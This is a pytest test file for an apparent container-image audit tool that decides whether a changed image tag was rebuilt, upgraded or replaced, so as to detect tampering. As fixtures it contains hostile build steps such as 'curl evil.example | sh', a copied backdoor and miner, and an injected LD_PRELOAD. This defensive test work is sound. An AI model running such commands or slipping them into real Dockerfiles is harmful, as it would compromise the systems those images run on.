"""Every verdict on images made for it; the shapes that must never alarm, and those that must."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import UTC, datetime
from itertools import pairwise

import pytest

from tagwatch.audit.base.index import BaseIndex, index_builds
from tagwatch.audit.change.judgement import ChangeContext
from tagwatch.audit.change.verdict import explain_change
from tagwatch.audit.model.base_build import BaseBuild
from tagwatch.audit.model.diff import PlatformDiff, Verdict
from tagwatch.audit.model.history import Change
from tagwatch.audit.reading.image import read_image
from tagwatch.image.image_config import parse_image_config
from tagwatch.image.platform import LINUX_AMD64, Platform
from tests import official
from tests.image_builder import (
    EPOCH,
    Built,
    Step,
    assemble,
    attest,
    build,
    cmd,
    config_digest,
    copy,
    debian_root,
    entrypoint,
    env,
    expose,
    index,
    label,
    provenance,
    recompress,
    run,
    setting,
    spdx,
    squash,
    user,
    without_documents,
    without_history,
)
from tests.official import ARM64, app, classic, debian, python, redis, service

WINDOWS_2019 = Platform(os="windows", architecture="amd64", os_version="10.0.17763.5696")
WINDOWS_2019_PATCHED = replace(WINDOWS_2019, os_version="10.0.17763.5820")
WINDOWS_2022 = replace(WINDOWS_2019, os_version="10.0.20348.2402")


def explain(
    before: Built,
    after: Built,
    context: ChangeContext | None = None,
    *,
    versions: tuple[str | None, str | None] = (None, None),
    reference: str = "docker.io/library/python:3.12-slim",
) -> Change:
    return explain_change(
        official.read(before, reference, versions[0]),
        official.read(after, reference, versions[1]),
        tag=reference.rpartition(":")[2],
        at=EPOCH,
        context=context,
    )


def build_of(image: Built, reference: str, version: str | None = None) -> BaseBuild:
    config = parse_image_config(image.documents[config_digest(image)].raw)
    return BaseBuild(
        reference=reference,
        tag=reference.rpartition(":")[2],
        platform=config.platform,
        digest=image.digest,
        manifest=image.digest,
        config=config_digest(image),
        diff_ids=config.diff_ids,
        history=config.history,
        version=version,
    )


def bases(*images: tuple[Built, str]) -> BaseIndex:
    return index_builds([build_of(image, reference) for image, reference in images])


def labelled(image: Built, day: int) -> Built:
    return build(label("org.opencontainers.image.created", f"2026-05-{day:02}"), base=image)


def windows(platform: Platform, patch: str) -> Built:
    foreign = Step(created_by="Apply image 1809-RTM-amd64", files={"Windows": "1"}, foreign=True)
    update = Step(created_by=f"Install update {patch}", files={"Windows/p": patch}, foreign=True)
    return build(foreign, update, env("APP_VERSION", "1.0"), run("install app"), platform=platform)


IDENTICAL = python()
CASES: dict[str, tuple[Built, Built, Verdict]] = {
    "one digest": (IDENTICAL, IDENTICAL, Verdict.IDENTICAL),
    "gzip to zstd": (python(), recompress(python(), "zstd"), Verdict.RECOMPRESSED),
    "other gzip level": (
        index(python()), index(recompress(python(), "gzip-fast")), Verdict.RECOMPRESSED),
    "annotations only": (
        index(python()),
        index(assemble(python().config, python().layers, LINUX_AMD64, annotations={"a": "b"})),
        Verdict.METADATA_ONLY,
    ),
    "OCI to Docker media types": (
        build(cmd("a")), build(cmd("a"), flavour="docker"), Verdict.METADATA_ONLY),
    "only created differs": (
        debian(), build(base=debian(), created=official.on_day(4)), Verdict.METADATA_ONLY),
    "only a label differs": (
        python(), build(label("maintainer", "b"), base=python()), Verdict.METADATA_ONLY),
    "only the revision label differs": (
        labelled(python(), 1), labelled(python(), 2), Verdict.METADATA_ONLY),
    "an attestation comes": (
        index(python()),
        index(python(), attest(python(), spdx(python(), {}))),
        Verdict.ATTESTATION_ONLY,
    ),
    "an attestation changes": (
        index(python(), attest(python(), spdx(python(), {"pkg:deb/debian/a": "1"}))),
        index(python(), attest(python(), spdx(python(), {"pkg:deb/debian/a": "2"}))),
        Verdict.ATTESTATION_ONLY,
    ),
    "a single manifest becomes an index with an attestation": (
        python(),
        index(python(), attest(python(), provenance(python(), []), form="artifact")),
        Verdict.ATTESTATION_ONLY,
    ),
    "a platform comes": (
        index(debian()), index(debian(), debian(platform=ARM64)), Verdict.PLATFORMS_CHANGED),
    "a platform goes": (
        index(debian(), debian(platform=ARM64)), index(debian()), Verdict.PLATFORMS_CHANGED),
    "another platform only": (
        debian(), debian(platform=ARM64), Verdict.PLATFORMS_CHANGED),
    "the order of an index": (
        index(debian(), debian(platform=ARM64)),
        index(debian(platform=ARM64), debian()),
        Verdict.METADATA_ONLY,
    ),
    "Debian of another day, every layer new": (python(0), python(9), Verdict.REBUILT),
    "redis of another day": (redis(0), redis(9), Verdict.REBUILT),
    "bookworm to trixie": (
        python(0), python(9, base=debian(9, release="trixie")), Verdict.REBUILT),
    "Debian itself of another day": (debian(0), debian(9), Verdict.REBUILT),
    "next patch": (python(0), python(9, "3.12.4"), Verdict.UPGRADED),
    "ten is more than nine": (python(0, "3.12.9"), python(9, "3.12.10"), Verdict.UPGRADED),
    "a step back": (python(0, "3.12.4"), python(9, "3.12.3"), Verdict.DOWNGRADED),
    "an extra build step": (
        python(0), python(9, extra=(run("curl evil.example | sh"),)), Verdict.REPLACED),
    "a changed entrypoint": (
        python(0), build(entrypoint("/evil"), base=python(0)), Verdict.REPLACED),
    "a changed user": (python(0), build(user("app"), base=python(0)), Verdict.REPLACED),
    "another port": (python(0), build(expose("80/tcp"), base=python(0)), Verdict.REPLACED),
    "another volume": (
        python(0),
        build(setting("VOLUME [/d]", Volumes={"/d": {}}), base=python(0)),
        Verdict.REPLACED,
    ),
    "squashed": (python(0), squash(python(9)), Verdict.UNKNOWN),
    "history missing": (python(0), without_history(python(9)), Verdict.UNKNOWN),
    "config not read": (
        python(0), without_documents(python(9), config_digest(python(9))), Verdict.UNKNOWN),
    "nothing read": (python(0), without_documents(python(9), python(9).digest), Verdict.UNKNOWN),
    "foreign layers, next Windows patch": (
        windows(WINDOWS_2019, "a"), windows(WINDOWS_2019_PATCHED, "b"), Verdict.REBUILT),
    "Windows for two builds, one patched": (
        index(windows(WINDOWS_2019, "a"), windows(WINDOWS_2022, "a")),
        index(windows(WINDOWS_2022, "a"), windows(WINDOWS_2019_PATCHED, "b")),
        Verdict.REBUILT,
    ),
    "Windows 2019 makes place for 2022": (
        index(windows(WINDOWS_2019, "a"), debian()),
        index(windows(WINDOWS_2022, "b"), debian()),
        Verdict.REBUILT,
    ),
}  # fmt: skip


@pytest.mark.parametrize(("before", "after", "verdict"), CASES.values(), ids=CASES.keys())
def test_verdict(before: Built, after: Built, verdict: Verdict) -> None:
    change = explain(before, after, versions=_tag_version(before, after))
    assert change.verdict is verdict, change.reason
    assert change.reason
    assert (change.before, change.after) == (before.digest, after.digest)


def _tag_version(before: Built, after: Built) -> tuple[str | None, str | None]:
    """The version in a tag such as 1.0 for images that state none: the same on both sides."""
    stated = "PYTHON_VERSION" in str(before.config) + "".join(str(i.config) for i in before.images)
    return (None, None) if stated else ("1.0", "1.0")


@pytest.mark.parametrize(
    "case", [case for case in CASES if CASES[case][2] in (Verdict.REPLACED, Verdict.UNKNOWN)]
)
def test_reason_names_what_was_found(case: str) -> None:
    before, after, _ = CASES[case]
    reason = explain(before, after).reason
    expected = {
        "an extra build step": "evil.example",
        "a changed entrypoint": "entrypoint",
        "a changed user": "user (root to app)",
        "another port": "EXPOSE 80/tcp",
        "another volume": "VOLUME",
        "squashed": "squashed",
        "history missing": "no history",
        "config not read": "config was not read",
        "nothing read": "manifest was not read",
    }
    assert expected[case] in reason


def nightly(make: Callable[[int], Built], nights: int) -> list[Verdict]:
    images = [make(night) for night in range(nights)]
    return [
        explain(before, after, versions=("1", "1")).verdict for before, after in pairwise(images)
    ]


def base_of_the_night(night: int) -> Built:
    """Alpine moves its patch release under the same tag of the image above."""
    patch = 3 + night // 7
    root = Step(
        created_by=f"ADD alpine-minirootfs-3.20.{patch}-x86_64.tar.gz / # buildkit",
        files={"etc/alpine-release": f"3.20.{patch}", "n": str(night)},
    )
    return build(root, cmd("/bin/sh"), created=official.on_day(night))


@pytest.mark.parametrize(
    "make",
    [
        python,
        redis,
        debian,
        base_of_the_night,
        lambda night: index(python(night), debian(night, platform=ARM64)),
        lambda night: build(*official.python_steps("3.12.3", night), base=base_of_the_night(night)),
        lambda night: app(python(night), night),
        service,
        lambda night: classic(redis(night)) if night % 2 else redis(night),
        lambda night: classic(service(night)) if night % 2 else service(night),
    ],
    ids=[
        "python",
        "redis",
        "debian",
        "alpine",
        "index",
        "python on alpine",
        "private",
        "with build arguments",
        "by two builders",
        "with build arguments, by two builders",
    ],
)
def test_two_hundred_nightly_rebuilds_raise_no_alarm(make: Callable[[int], Built]) -> None:
    assert set(nightly(make, 30)) == {Verdict.REBUILT}


def test_another_builder_is_no_replacement() -> None:
    """Official images went from the classic builder to BuildKit in 2023."""
    change = explain(classic(redis(0)), redis(1), versions=("6.2.14", "6.2.14"))
    assert change.verdict is Verdict.REBUILT, change.reason


@pytest.mark.parametrize(
    ("old", "new", "verdict"),
    [
        ("ENV A_SHA256=" + "a1" * 32, "ENV A_SHA256=" + "b2" * 32, Verdict.REBUILT),
        ("ENV A_SHA256=" + "a1" * 32, "ENV A_SHA256=skip", Verdict.REPLACED),
        ("ARG BUILD_DATE=2026-05-01", "ARG BUILD_DATE=2026-06-01T10:00:00Z", Verdict.REBUILT),
        ("RUN x 20260501", "RUN x 20260602", Verdict.REBUILT),
        ("RUN |1 SOURCE_DATE_EPOCH=1715644800 /bin/sh -c make # buildkit",
         "RUN |1 SOURCE_DATE_EPOCH=1716644800 /bin/sh -c make # buildkit", Verdict.REBUILT),
        ("RUN git checkout " + "a1" * 20, "RUN git checkout " + "b2" * 20, Verdict.REBUILT),
        ("LABEL a=b", "LABEL a=c", Verdict.REBUILT),
        ("ENV GPG_KEY=" + "A1" * 20, "ENV GPG_KEY=" + "B2" * 20, Verdict.REPLACED),
        ("RUN /bin/bash -o pipefail -c make # buildkit", "RUN make", Verdict.REBUILT),
        ("RUN pip install a==1.0", "RUN pip install a==1.1", Verdict.REBUILT),
        ("RUN pip install a==1.1", "RUN pip install a==1.0", Verdict.REPLACED),
        ("ENV GOSU_VERSION=1.16", "ENV GOSU_VERSION=1.17", Verdict.REBUILT),
        ("ENV GOSU_VERSION=1.17", "ENV GOSU_VERSION=1.16", Verdict.REPLACED),
        ("ENV PYTHON_VERSION=1.0", "ENV PYTHON_VERSION=1.1", Verdict.REPLACED),
        ("ENV APP_VERSION=1.0", "ENV APP_VERSION=1.1", Verdict.REPLACED),
        ("RUN make", "RUN make && curl evil", Verdict.REPLACED),
        ("RUN |1 BUILD_DATE=Fri May  1 10:00:00 UTC 2026 /bin/sh -c make",
         "RUN |1 BUILD_DATE=Sat May  9 02:30:00 UTC 2026 /bin/sh -c make", Verdict.REBUILT),
        ("LABEL a=b", 'ARG AT="Fri, 01 May 2026 10:00:00 +0000"', Verdict.REPLACED),
        ('ARG AT="Fri, 01 May 2026 10:00:00 +0000"', 'ARG AT="Sat, 09 May 2026 02:30:00 +0200"',
         Verdict.REBUILT),
        ("RUN |2 BUILD_NUMBER=41 CACHEBUST=a /bin/sh -c make",
         "RUN |2 BUILD_NUMBER=42 CACHEBUST=b /bin/sh -c make", Verdict.REBUILT),
        ("RUN |1 REDIS_BUILD=41 /bin/sh -c make", "RUN |1 REDIS_BUILD=42 /bin/sh -c make",
         Verdict.REPLACED),
        ("/bin/sh -c #(nop)  EXPOSE 443/tcp 80/tcp", "EXPOSE [80 443/tcp]", Verdict.REBUILT),
        ("EXPOSE map[53/udp:{}]", "EXPOSE map[53/tcp:{}]", Verdict.REPLACED),
        (r"""HEALTHCHECK &{["CMD-SHELL" "x"] "30s" "0s" "5s" '\x03'}""",
         r"""HEALTHCHECK &{["CMD-SHELL" "x"] "30s" "0s" "5s" "0s" '\x03'}""", Verdict.REBUILT),
        (r"""HEALTHCHECK &{["CMD-SHELL" "x"] "30s" "0s" "5s" '\x03'}""",
         r"""HEALTHCHECK &{["CMD-SHELL" "x"] "30s" "0s" "9s" "0s" '\x03'}""", Verdict.REPLACED),
        ("cmd /S /C #(nop)  LABEL a=b", "cmd /S /C #(nop)  LABEL a=c", Verdict.REBUILT),
    ],
)  # fmt: skip
def test_normalised_steps(old: str, new: str, verdict: Verdict) -> None:
    before = build(Step(created_by=old), run("make", a="1"), base=debian(0))
    after = build(Step(created_by=new), run("make", a="2"), base=debian(0))
    change = explain(before, after, versions=("1.0", "1.0"))
    assert change.verdict is verdict, change.reason


ALPINE = "ADD alpine-minirootfs-3.20.3-x86_64.tar.gz / # buildkit"


@pytest.mark.parametrize(
    ("old", "new", "verdict"),
    [
        ("COPY server / # buildkit", "COPY backdoor / # buildkit", Verdict.REPLACED),
        ("COPY --from=a /out/ / # buildkit", "COPY --from=b /out/ / # buildkit", Verdict.REPLACED),
        ("ADD server.bin / # buildkit", "ADD other.bin / # buildkit", Verdict.REPLACED),
        (ALPINE, ALPINE.replace("3.20.3", "3.20.4"), Verdict.REBUILT),
        (ALPINE, "ADD evil.tar.gz / # buildkit", Verdict.UNKNOWN),
        ("COPY /rootfs/ / # buildkit", "COPY rootfs.new/ / # buildkit", Verdict.REBUILT),
        (f"/bin/sh -c #(nop) ADD file:{'a1' * 32} in / ", ALPINE, Verdict.REBUILT),
        ("# debian.sh --arch 'amd64' out/ 'bookworm' '@1715558400'", ALPINE, Verdict.UNKNOWN),
    ],
)  # fmt: skip
def test_what_makes_the_bottom_layer(old: str, new: str, verdict: Verdict) -> None:
    """A whole system may be of another release; a program in its place is another image."""
    before, after = (
        build(Step(created_by=text, files={"n": text}), run("make", n=text), entrypoint("server"))
        for text in (old, new)
    )
    change = explain(before, after, versions=("1.0", "1.0"))
    assert change.verdict is verdict, change.reason


def primary_of(change: Change) -> PlatformDiff:
    assert change.diff is not None
    assert change.diff.primary is not None
    return change.diff.primary


def test_a_long_step_is_told_by_what_differs_in_it() -> None:
    step = "set -eux; " + "apt-get update; " * 9 + "apt-get install -y nginx=1.25.5-{}~bookworm"
    before, after = (build(run(step.format(n)), base=debian(n)) for n in (2, 1))
    change = explain(before, after, versions=("1.0", "1.0"))
    assert "nginx=1.25.5-1~bookworm" in change.reason
    assert "nginx=1.25.5-2~bookworm" in change.reason
    shown = primary_of(change).steps
    assert shown.removed[0].endswith("2~bookworm")
    assert shown.added[0].endswith("1~bookworm")


@pytest.mark.parametrize("builder", ["apko", "ko build ko://example.com/x", "bazel build ..."])
def test_a_builder_s_name_is_no_build_step(builder: str) -> None:
    before, after = (build(Step(created_by=builder, files={"bin": n})) for n in "12")
    change = explain(before, after, versions=("1.0", "1.0"))
    assert change.verdict is Verdict.UNKNOWN
    assert f"only names what built it ('{builder}')" in change.reason
    jib = Step(created_by="jib-maven-plugin:3.4", files={"a": builder})
    later = Step(created_by="jib-maven-plugin:3.4", files={"a": "other"})
    change = explain(
        build(jib, base=debian()), build(later, base=debian()), versions=("1.0", "1.0")
    )
    assert change.verdict is Verdict.REBUILT, "the base's own steps are told"


def test_a_changed_user_does_not_hide_a_changed_step() -> None:
    evil = build(run("curl evil.example | sh"), user("app"), base=redis(1))
    reason = explain(redis(0), evil, versions=("6.2.14", "6.2.14")).reason
    assert "user (root to app) changed, and 1 build step differs" in reason
    assert "evil.example" in reason
    plain = explain(redis(0), build(user("app"), base=redis(1)), versions=("6.2.14", "6.2.14"))
    assert plain.reason.endswith("user (root to app) changed")


def test_an_unexplained_setting_does_not_hide_a_changed_step() -> None:
    edited = setting("RUN curl evil.example | sh", Env=["LD_PRELOAD=/evil.so"])
    after = build(replace(edited, files={"evil": "1"}), base=python(0))
    reason = explain(python(0), after).reason
    assert "LD_PRELOAD" in reason
    assert "evil.example" in reason


def test_a_setting_is_told_with_what_it_became() -> None:
    before, after = (build(run("make", n=port), expose(port), base=debian()) for port in ("1", "2"))
    reason = explain(before, after, versions=("1.0", "1.0")).reason
    assert "-'EXPOSE 1', +'EXPOSE 2'" in reason


def test_steps_in_another_order_are_told_so() -> None:
    steps = [(run("one", a=str(n)), run("two", b=str(n))) for n in range(2)]
    before, after = build(*steps[0], base=debian()), build(*steps[1][::-1], base=debian())
    change = explain(before, after, versions=("1.0", "1.0"))
    assert change.verdict is Verdict.REPLACED
    assert "another order" in change.reason


def test_what_counts_as_the_same_is_named() -> None:
    args = ("REDIS_SHA=" + "a1" * 32, "REDIS_SHA=" + "b2" * 32)
    before, after = (build(Step(created_by=f"ENV {one}"), run("make", n=one)) for one in args)
    assert "(REDIS_SHA aside)" in explain(before, after, versions=("1.0", "1.0")).reason


def test_another_source_revision_is_told_and_without_a_version_unknown() -> None:
    before, after = (
        build(label("org.opencontainers.image.revision", n * 7), run("make", n=n)) for n in "ab"
    )
    named = explain(before, after, versions=("1.0", "1.0"))
    assert named.verdict is Verdict.REBUILT
    assert "revision went from aaaaaaa to bbbbbbb" in named.reason
    unnamed = explain(before, after, reference="registry.example/shop/api:latest")
    assert unnamed.verdict is Verdict.UNKNOWN, unnamed.reason
    ubuntu = label("org.opencontainers.image.ref.name", "ubuntu")
    for name in (
        "registry.example:5000/shop/api:latest",
        f"registry.example/shop/api@sha256:{'a' * 64}",
    ):
        inherited = explain(build(ubuntu, base=before), build(ubuntu, base=after), reference=name)
        assert inherited.verdict is Verdict.REBUILT, inherited.reason


def swapped(immutable: bool, known: bool) -> Change:
    """One app layer swapped while the base stands."""
    base = python(0)
    index_ = bases((base, "docker.io/library/python:3.12-slim")) if known else BaseIndex()
    return explain(
        app(base, content="good"),
        app(base, content="evil"),
        ChangeContext(bases=index_, immutable=immutable),
        reference="registry.example/shop/api:1.4.2",
        versions=("1.4.2", "1.4.2"),
    )


@pytest.mark.parametrize("known", [True, False])
def test_a_swapped_layer_alarms_where_the_tag_is_immutable(known: bool) -> None:
    assert swapped(immutable=True, known=known).verdict is Verdict.REPLACED
    assert swapped(immutable=False, known=known).verdict is Verdict.REBUILT


def test_an_immutable_tag_may_follow_its_base() -> None:
    change = explain(
        app(python(0)), app(python(1), 1), ChangeContext(immutable=True), versions=("1", "1")
    )
    assert change.verdict is Verdict.REBUILT, change.reason


def corporate(day: int, tool: str) -> Built:
    """A base of one's own, whose own steps change between two days."""
    return build(run(f"install {tool}", tool=f"{tool} {day}"), cmd("sh"), base=debian(day))


def test_a_base_with_other_steps_is_no_replacement_of_what_stands_on_it() -> None:
    old, new = corporate(0, "vim"), corporate(1, "emacs")
    known = bases((old, "registry.example/base:1"), (new, "registry.example/base:1"))
    versions = ("1.4.2", "1.4.2")
    change = explain(app(old), app(new, 1), ChangeContext(bases=known), versions=versions)
    assert change.verdict is Verdict.REBUILT
    assert "another build of registry.example/base:1" in change.reason
    unknown = explain(app(old), app(new, 1), versions=versions)
    assert unknown.verdict is Verdict.UNKNOWN
    assert "perhaps in the base only" in unknown.reason


def test_an_extra_step_below_the_image_s_own_is_found_without_the_new_base() -> None:
    """The rebuilt base was not seen yet: a presumed boundary must not swallow the step."""
    old, new = python(0), python(1)
    known = bases((old, "docker.io/library/python:3"))
    evil = app(build(run("curl evil"), base=new), 1)
    change = explain(app(old), evil, ChangeContext(bases=known), versions=("1", "1"))
    assert change.verdict is Verdict.REPLACED
    assert "curl evil" in change.reason
    honest = explain(app(old), app(new, 1), ChangeContext(bases=known), versions=("1", "1"))
    assert honest.verdict is Verdict.REBUILT


def test_other_steps_above_a_known_base_are_a_replacement() -> None:
    old, new = corporate(0, "vim"), corporate(1, "emacs")
    known = bases((old, "registry.example/base:1"), (new, "registry.example/base:1"))
    evil = build(copy("miner", "/usr/bin"), base=app(new, 1))
    change = explain(app(old), evil, ChangeContext(bases=known), versions=("1", "1"))
    assert change.verdict is Verdict.REPLACED
    assert "miner" in change.reason


def test_an_image_is_never_its_own_base() -> None:
    """Else a base that was replaced would have no steps of its own to differ."""
    old, new = python(0), python(1, extra=(run("curl evil"),))
    known = bases((old, "docker.io/library/python:3"), (new, "docker.io/library/python:3"))
    change = explain(old, new, ChangeContext(bases=known), versions=("3.12.3", "3.12.3"))
    assert change.verdict is Verdict.REPLACED, change.reason


def test_without_a_version_other_steps_are_unknown() -> None:
    before, after = app(debian(0)), build(run("more"), base=app(debian(0)))
    reference = "registry.example/shop/api:latest"
    change = explain(before, after, reference=reference)
    assert change.verdict is Verdict.UNKNOWN
    assert "cannot be told apart" in change.reason
    immutable = explain(before, after, ChangeContext(immutable=True), reference=reference)
    assert immutable.verdict is Verdict.REPLACED


@pytest.mark.parametrize(
    ("before", "after", "verdict"),
    [
        (python(0), python(1, "3.12.4"), Verdict.UPGRADED),
        (python(0), python(1, extra=(run("evil"),)), Verdict.REPLACED),
        (
            build(label("org.opencontainers.image.version", "1.4.2"), run("a"), base=debian(0)),
            build(label("org.opencontainers.image.version", "1.4.1"), run("a"), base=debian(1)),
            Verdict.DOWNGRADED,
        ),
        (redis(0), build(run("more"), base=redis(1)), Verdict.UNKNOWN),
    ],
    ids=["one variable", "same version", "label", "two variables"],
)
def test_an_image_without_a_name_states_its_version(
    before: Built, after: Built, verdict: Verdict
) -> None:
    change = explain(before, after, reference="oci:some/where:tag")
    assert change.verdict is verdict, change.reason


def test_a_full_version_tag_is_its_own_version() -> None:
    """Whatever was put into the image: 6.2.14 was promised."""
    reference = "docker.io/library/redis:6.2.14"
    change = explain(redis(0), redis(1, "6.2.15"), reference=reference)
    assert change.verdict is Verdict.REPLACED, change.reason
    assert (change.version_before, change.version_after) == ("6.2.14", "6.2.14")


def test_what_is_no_image_is_unknown_whatever_is_audited() -> None:
    before, after = (attest(debian(day), spdx(debian(day), {}), form="artifact") for day in (0, 1))
    change = explain(before, after, ChangeContext(audited=(LINUX_AMD64,)))
    assert change.verdict is Verdict.UNKNOWN
    assert "not an image" in change.reason


def test_versions_that_cannot_be_ordered_are_unknown() -> None:
    for versions in (("main", "feature"), ("2024.1", "1.3.0"), ("1.3.0", "2024.1")):
        change = explain(debian(0), debian(1), versions=versions)
        assert change.verdict is Verdict.UNKNOWN
        assert "cannot be told" in change.reason


def test_the_gravest_platform_speaks() -> None:
    before = index(python(0), python(0, base=debian(platform=ARM64)))
    evil = (run("curl evil"),)
    after = index(python(1), python(1, base=debian(1, platform=ARM64), extra=evil))
    change = explain(before, after)
    assert change.verdict is Verdict.REPLACED
    assert change.reason.startswith("linux/arm64: ")
    assert change.diff is not None
    assert change.platforms == ("linux/arm64",)
    told = [(one.platform, one.verdict) for one in change.diff.platforms]
    assert told == [("linux/arm64", None), ("linux/amd64", Verdict.REBUILT)]


def unread_arm64(day: int) -> Built:
    image = python(day, base=debian(day, platform=ARM64))
    return without_documents(image, image.digest, config_digest(image))


def test_a_platform_nobody_audits_is_no_gap() -> None:
    before, after = index(python(0), unread_arm64(0)), index(python(1), unread_arm64(1))
    audited = explain(before, after, ChangeContext(audited=(LINUX_AMD64,)))
    assert audited.verdict is Verdict.REBUILT
    everything = explain(before, after)
    assert everything.verdict is Verdict.UNKNOWN
    assert "linux/arm64" in everything.reason


def test_only_an_unaudited_platform_moved() -> None:
    before, after = index(python(0), unread_arm64(0)), index(python(0), unread_arm64(1))
    change = explain(before, after, ChangeContext(audited=(LINUX_AMD64,)))
    assert change.verdict is Verdict.PLATFORMS_CHANGED
    assert change.reason == "only platforms that are not audited moved: linux/arm64"


def arm64(day: int, version: str = "3.12.3", *, evil: bool = False) -> Built:
    extra = (run("curl evil"),) if evil else ()
    return python(day, version, base=debian(day, platform=ARM64), extra=extra)


NIGHTLY = ChangeContext(audited=(LINUX_AMD64,), alone=True)
RISCV64 = Platform(os="linux", architecture="riscv64")


def riscv64(day: int) -> Built:
    return python(day, base=debian(day, platform=RISCV64))


def test_a_platform_that_moved_alone_is_judged_whoever_audits_it() -> None:
    change = explain(index(python(0), arm64(0)), index(python(0), arm64(1, evil=True)), NIGHTLY)
    assert (change.verdict, change.platforms) == (Verdict.REPLACED, ("linux/arm64",))
    assert change.reason.startswith("linux/arm64, which moved while linux/amd64 did not: ")
    assert change.diff is not None
    assert change.diff.alone == ("linux/arm64",)
    primary = change.diff.primary
    assert primary is not None
    assert primary.platform == "linux/arm64"


def test_a_platform_that_moved_alone_and_was_not_read_is_not_known() -> None:
    before, after = index(python(0), unread_arm64(0)), index(python(0), unread_arm64(1))
    change = explain(before, after, NIGHTLY)
    assert (change.verdict, change.platforms) == (Verdict.UNKNOWN, ("linux/arm64",))
    assert change.reason.startswith("linux/arm64, which moved while linux/amd64 did not: ")
    assert change.reason.endswith("was not read")


def test_a_platform_that_moved_with_the_audited_one_is_no_gap_unless_another_stayed() -> None:
    before, after = index(python(0), unread_arm64(0)), index(python(1), unread_arm64(1))
    assert explain(before, after, NIGHTLY).verdict is Verdict.REBUILT
    before, after = (index(python(d), unread_arm64(d), riscv64(0)) for d in (0, 1))
    change = explain(before, after, NIGHTLY)
    assert (change.verdict, change.platforms) == (Verdict.UNKNOWN, ("linux/arm64",))


def test_only_what_is_to_be_compared_is_judged_where_more_was_read() -> None:
    before, after = index(python(0), arm64(0)), index(python(1), arm64(1, evil=True))
    assert explain(before, after, NIGHTLY).verdict is Verdict.REPLACED
    narrow = replace(NIGHTLY, compared=(LINUX_AMD64,))
    change = explain(before, after, narrow)
    assert (change.verdict, change.platforms) == (Verdict.REBUILT, ("linux/amd64",))


def test_several_platforms_that_decide_are_all_named() -> None:
    change = explain(index(python(0), arm64(0)), index(python(1), arm64(1)))
    assert (change.verdict, change.platforms) == (Verdict.REBUILT, ("linux/amd64", "linux/arm64"))
    assert change.reason.startswith("linux/amd64 and 1 more: ")


def test_a_platform_that_follows_the_others_comes_from_its_own_version() -> None:
    """An alias names the whole index 3.12.4, before arm64 has it and after."""
    before = index(python(1, "3.12.4"), arm64(0, "3.12.3"))
    after = index(python(1, "3.12.4"), arm64(1, "3.12.4"))
    change = explain(before, after, NIGHTLY, versions=("3.12.4", "3.12.4"))
    assert (change.verdict, change.reason) == (
        Verdict.UPGRADED,
        "linux/arm64: version 3.12.3 to 3.12.4",
    )
    elsewhere = index(python(1, "3.12.4"), arm64(1, "3.12.5"))
    change = explain(before, elsewhere, NIGHTLY, versions=("3.12.4", "3.12.4"))
    assert change.verdict is Verdict.REPLACED, "nobody promised 3.12.5"


def test_attestations_never_move_alone() -> None:
    before, after = (
        index(python(0), attest(python(0), spdx(python(0), {"pkg:deb/debian/a": version})))
        for version in ("1", "2")
    )
    change = explain(before, after, NIGHTLY)
    assert change.verdict is Verdict.ATTESTATION_ONLY
    assert change.diff is not None
    assert change.diff.alone == ()


def test_hostile_documents_are_an_answer() -> None:
    document = debian().documents[debian().digest]
    broken = replace(document, raw=b'{"schemaVersion":2,"manifests":[],"config":{}}')
    image = read_image(document.digest, {document.digest: broken})
    change = explain_change(official.read(python()), image, tag="a", at=EPOCH)
    assert change.verdict is Verdict.UNKNOWN
    assert "CVE-2021-41190" in change.reason


def test_a_history_of_many_entries_costs_no_quadratic_time() -> None:
    def many(word: str) -> Built:
        steps: Sequence[Step] = [Step(created_by=f"ENV A{n}={word}{n}") for n in range(3_000)]
        return build(*debian_root("bookworm"), *steps, run("make", a=word))

    change = explain(many("a"), many("b"), versions=("1", "1"))
    assert change.verdict is Verdict.REPLACED
    steps = primary_of(change).steps
    assert steps.added_in_all > 3_000
    assert len(steps.added) == 500


def edited(image: Built, **settings: object) -> Built:
    """The image with its config edited, as `crane mutate` does: no step tells of it."""
    config = {**image.config["config"], **settings}
    return assemble({**image.config, "config": config}, image.layers, LINUX_AMD64)


def preloaded(image: Built) -> Built:
    return edited(image, Env=[*image.config["config"]["Env"], "LD_PRELOAD=/x.so"])


@pytest.mark.parametrize(
    ("after", "words"),
    [
        (preloaded(app(python(0))), "env LD_PRELOAD changed, and no build step says so"),
        (preloaded(app(python(1), 1)), "env LD_PRELOAD changed, and no build step says so"),
        (edited(app(python(0)), WorkingDir="/x"), "working dir changed"),
        (edited(app(python(0)), Healthcheck={"Test": ["CMD", "x"]}), "healthcheck changed"),
        (edited(app(python(0)), ExposedPorts={"22/tcp": {}}), "exposed ports changed"),
    ],
    ids=["env", "env of a rebuild", "workdir", "healthcheck", "ports"],
)
def test_a_config_edited_without_a_step_is_a_replacement(after: Built, words: str) -> None:
    change = explain(app(python(0)), after, versions=("1.4.0", "1.4.0"))
    assert change.verdict is Verdict.REPLACED
    assert words in change.reason


def test_a_base_that_tells_no_settings_may_have_changed_them() -> None:
    """Bazel's and ko's images have variables that no step tells: a rebuild may bring others."""
    root = Step(created_by="bazel build ...", files={"etc/os": "1"}, config={"Env": ["CERT=/a"]})
    moved = Step(created_by="bazel build ...", files={"etc/os": "2"}, config={"Env": ["CERT=/b"]})
    steps = (copy("src", "/app", "app"), entrypoint("/app"))
    change = explain(build(root, *steps), build(moved, *steps), versions=("1.4.0", "1.4.0"))
    assert change.verdict is Verdict.UNKNOWN
    assert "perhaps in the base only" in change.reason


def test_the_same_layers_in_another_order_are_no_rebuild() -> None:
    before = app(python(0))
    layers = (*before.layers[:5], *reversed(before.layers[5:]))
    diff_ids = [layer.diff_id for layer in layers]
    config = {**before.config, "rootfs": {"type": "layers", "diff_ids": diff_ids}}
    after = assemble(config, layers, LINUX_AMD64)
    change = explain(before, after, versions=("1.4.0", "1.4.0"))
    assert change.verdict is Verdict.REPLACED
    assert "another order" in change.reason
    unnamed = explain(before, after, reference="registry.example/shop/api:latest")
    assert unnamed.verdict is Verdict.UNKNOWN


def test_a_manifest_and_a_config_that_disagree_are_not_compared() -> None:
    before = app(python(0))
    fewer = assemble(before.config, before.layers[:-1], LINUX_AMD64)
    for pair in ((before, fewer), (fewer, before)):
        change = explain(*pair, versions=("1.4.0", "1.5.0"))
        assert change.verdict is Verdict.UNKNOWN
        assert "image's manifest lists 7 layers, its config 8" in change.reason


def test_dates_of_the_publisher_decide_nothing() -> None:
    before, after = (
        build(run("make", out="1"), base=python(0), created=datetime(year, 1, 1, tzinfo=UTC))
        for year in (2099, 1970)
    )
    assert explain(before, after, versions=("1.4.0", "1.4.0")).verdict is Verdict.METADATA_ONLY
